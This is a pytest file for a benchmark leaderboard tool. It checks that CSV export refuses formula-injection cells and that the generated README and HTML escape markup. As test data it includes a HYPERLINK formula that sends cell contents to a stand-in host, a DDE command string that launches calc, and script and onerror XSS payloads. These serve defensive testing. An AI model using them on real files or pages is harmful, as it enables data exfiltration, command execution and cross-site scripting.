"""Issue 11 item 6: leaderboard CSV and Markdown are safe.

Before: `leaderboard add --name '=HYPERLINK(...)'` was written verbatim and `validate` said OK;
the generated README carried raw HTML from names; `validate` accepted 2026-13-45.
"""
from __future__ import annotations

import json
import re
import shutil
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from robustpose_bench.cli.main import cli
from robustpose_bench.leaderboard import add_results, build, read_table, validate
from robustpose_bench.leaderboard.schema import LeaderboardError

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "leaderboard"))
from _summary_factory import make_summary  # noqa: E402

SYNTH_HEADER = (Path(__file__).resolve().parents[2] / "leaderboard" / "synthpose-c.csv"
                ).read_text().splitlines()[0]


def _cli(*args):
    return CliRunner().invoke(cli, ["-q", *map(str, args)])


@pytest.fixture
def results(tmp_path):
    d = tmp_path / "results"
    d.mkdir()
    (d / "summary.json").write_text(json.dumps(make_summary()))
    return d


@pytest.fixture
def csv(tmp_path):
    path = tmp_path / "board" / "synthpose-c.csv"
    path.parent.mkdir()
    path.write_text(SYNTH_HEADER + "\n")
    return path


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2",
                                  "-2+3", "@SUM(A1:A2)", "\tx", "\rx"])
def test_add_refuses_formula_cells(results, csv, name):
    before = csv.read_bytes()
    res = _cli("leaderboard", "add", results, "--csv", csv, "--name", name)
    assert res.exit_code == 2, res.output
    assert f"model={name!r} starts with {name[0]!r}, which spreadsheets run as a formula" \
        in res.output
    assert csv.read_bytes() == before


def test_add_refuses_formula_in_summary_fields(results, csv):
    summary = make_summary()
    summary["model"]["method"] = "@cmd|' /C calc'!A0"
    (results / "summary.json").write_text(json.dumps(summary))
    with pytest.raises(LeaderboardError, match="method=.* starts with '@'"):
        add_results(results, csv)


def test_validate_refuses_injected_cells_and_keeps_numbers_numbers(results, csv):
    add_results(results, csv, name="tiny")
    assert validate([csv]) == []
    text = csv.read_text()
    csv.write_text(text.replace("tiny", "=1+1", 1))
    problems = validate([csv])
    assert len(problems) == 1 and problems[0].startswith(f"{csv}:2: model='=1+1' starts with")
    # a negative score is a number problem, not a text one; a number is never accepted as text
    row = read_table(csv).rows[0]
    csv.write_text(text.replace(f",{row['clean']},", ",-5.00,", 1))
    assert any("clean=-5.00 is outside 0..100" in p for p in validate([csv]))
    res = _cli("leaderboard", "validate", csv)
    assert res.exit_code == 1 and "problem(s) found" in res.output


@pytest.mark.parametrize("date,ok", [("2026-13-45", False), ("2025-02-29", False),
                                     ("2024-02-29", True), ("2021-05", True), ("2021-00", False),
                                     ("2021", True)])
def test_dates_are_real_dates(results, csv, date, ok):
    if ok:
        add_results(results, csv, date=date)
        assert validate([csv]) == []
    else:
        with pytest.raises(LeaderboardError, match=f"date='{date}' is not a real date"):
            add_results(results, csv, date=date)


def test_markdown_escapes_html_and_the_page_stays_escaped(tmp_path, results, csv):
    for f in (Path(__file__).resolve().parents[2] / "leaderboard").glob("*.csv"):
        if f.name != csv.name:
            shutil.copy(f, csv.parent / f.name)
    add_results(results, csv, name="<script>alert(1)</script>",
                method="<img src=x onerror=alert(2)>")
    out = build(csv.parent, tmp_path / "site", figures=False)
    readme = out["readme"].read_text()
    assert "<script" not in readme and "<img" not in readme
    assert "**&lt;script&gt;alert(1)&lt;/script&gt;** | &lt;img src=x onerror=alert(2)&gt;" \
        in readme
    page = out["html"].read_text()
    assert "<script>alert" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    payload = re.search(r'<script type="application/json" id="leaderboard-data">(.*?)</script>',
                        page, re.S).group(1)
    assert "<" not in payload and ">" not in payload
    assert json.loads(payload)["synthpose-c"][0]["model"] == "<script>alert(1)</script>"
